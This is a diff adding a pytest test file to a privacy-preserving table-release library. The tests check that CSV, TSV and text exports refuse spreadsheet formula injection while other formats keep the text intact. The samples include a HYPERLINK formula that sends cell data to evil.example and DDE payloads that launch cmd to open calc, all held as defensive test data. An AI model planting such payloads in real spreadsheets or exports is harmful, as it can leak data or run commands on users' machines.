@@ -1,0 +1,113 @@
+"""Text that a spreadsheet would compute is in no text file, whoever writes it; other formats keep it as text."""
+
+import json
+
+import pytest
+
+import utmost as ut
+from running import called
+from utmost.publish.tables.formulas import is_computed
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+COMPUTED = [
+    EVIL, "=1+1", " =A1", "\t=A1", "\ufeff=A1", "\u200b=A1", "'=A1", '"=A1', "=A1", "\uff1dA1", "+HYPERLINK(1)",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-cmd|'/C a,b'!A0", "a;=A1", "a\t=A1", "a\n=A1",
+    'a\n"=A1', "a,=A1", "\uff0bSUM(1)", "=cmd|'/C calc'!A0", "+[book]Sheet!A1",
+]  # fmt: skip
+LABELS = [
+    "-5 to 0", "+65", "-", "--", "@home", "a = b", "x>=5", "1=1", "(none)", "men (all)", "A-B (c)", "Aix-en-Provence",
+    "80+", "+41 44 555 55 55", "-0.5", "e=mc2", "Smith, J. (ed.)", "a; b (c)", 'say "=" twice', "!", "[x]", "a|b",
+]  # fmt: skip
+TEXT_FILES = ("t.csv", "t.tsv", "t.txt", "t.csv.gz", "t.tsv.gz")
+OTHERS = ("t.xlsx", "t.parquet", "t.jsonl", "t.feather")
+
+
+def released(label):
+    table = {"town": [label, "Bern"], "n": [5, -3]}
+    return ut.release_table(table, columns="n", public="town", epsilon=1, sensitivity=1, cells=1)
+
+
+@pytest.mark.parametrize("text", COMPUTED)
+def test_what_a_spreadsheet_computes_is_refused_by_every_text_file(tmp_path, text):
+    """The release is as it was: in another format it is saved, its text letter for letter, and verified."""
+    release = released(text)
+    for name in TEXT_FILES:
+        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
+            release.save(tmp_path / name)
+        assert not (tmp_path / name).exists()
+        assert not (tmp_path / f"{name}.json").exists()
+    for name in OTHERS:
+        if name == "t.xlsx" and any(sign in text for sign in "\x00\ufeff"):
+            continue
+        release.save(tmp_path / name)
+        again = ut.read_release(tmp_path / name).table
+        column = again["town"]
+        assert next(iter(column.to_pylist() if hasattr(column, "to_pylist") else column)) == text
+
+
+@pytest.mark.parametrize("text", LABELS)
+def test_a_label_is_a_label(tmp_path, text):
+    """What calls nothing and refers to nothing is written as it is, and comes back."""
+    release = released(text)
+    for name in TEXT_FILES:
+        release.save(tmp_path / name)
+        ut.read_release(tmp_path / name)
+
+
+def test_excel_computes_nothing(tmp_path):
+    """A workbook says of each cell that it is text; verify refuses one in which a formula stands."""
+    openpyxl = pytest.importorskip("openpyxl")
+    released(EVIL).save(tmp_path / "t.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
+    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
+    assert called("verify", "t.xlsx", cwd=tmp_path).returncode == 0
+
+
+def test_names_of_columns_are_text_as_well(tmp_path):
+    release = ut.release_table({EVIL: [1, 2]}, columns=EVIL, epsilon=1, sensitivity=1, cells=1)
+    with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
+        release.save(tmp_path / "t.csv")
+
+
+def test_a_ledger_and_a_plan_write_no_formula(tmp_path):
+    """Ledger.save, the tables of a strategy, and a table that is clean: the same rule."""
+    with ut.Ledger.open(tmp_path / "l.db", create=True) as ledger:
+        table = {"town": [EVIL, "Bern"], "n": [5, 3]}
+        ledger.publish("x", table, columns="n", public="town", sensitivity=1, cells=1, epsilon=1)
+        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
+            ledger.save("x", tmp_path / "l.csv", epsilon=1)
+        ledger.save("x", tmp_path / "l.parquet", epsilon=1)
+    domain = ut.Domain(town=[EVIL, "Bern"])
+    counted = ut.count_table({"p": [1, 2, 3], "town": [EVIL, "Bern", "Bern"]}, person="p", domain=domain, at_most=1)
+    plan = ut.strategy(ut.Workload(domain, {"town": 1}), counted.unit, epsilon=1)
+    release = ut.release_workload(counted, plan, epsilon=1)
+    for written in (release, release.clean()):
+        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
+            written.save(tmp_path / "w.csv", family="town") if written is release else written.save(tmp_path / "w.csv")
+
+
+@pytest.mark.parametrize("kind", ["csv", "jsonl"])
+def test_the_command_line_refuses_it_and_names_what_works(tmp_path, kind):
+    """Through the fast and the slow way of CSV; a remedy that is taken works."""
+    rows = [[EVIL, "5"], ["Bern", "7"]]
+    if kind == "csv":
+        lines = ["town,n", *(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)]
+    else:
+        lines = [json.dumps({"town": town, "n": int(n)}) for town, n in rows]
+    (tmp_path / f"t.{kind}").write_text("\n".join(lines) + "\n")
+    words = ("release", f"t.{kind}", "--columns", "n", "--public", "town", "--epsilon", "1", "--sensitivity", "1",
+             "--cells", "1")  # fmt: skip
+    for out in ("o.csv", "-"):
+        refused = called(*words, "--out", out, cwd=tmp_path)
+        assert refused.returncode == 1, refused.stdout
+        assert "spreadsheets" in refused.stderr
+        assert ".parquet" in refused.stderr
+        assert EVIL not in refused.stdout
+    done = called(*words, "--out", "o.jsonl", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert called("verify", "o.jsonl", cwd=tmp_path).returncode == 0
+
+
+def test_numbers_are_no_formulas():
+    assert not is_computed(b"a,b\n-1.5,-2e5\n-7,(x)\n-1,-2\n")
+    assert not is_computed(b"a|b\n-1.5|hello!\n-1e-7|(x)\n")
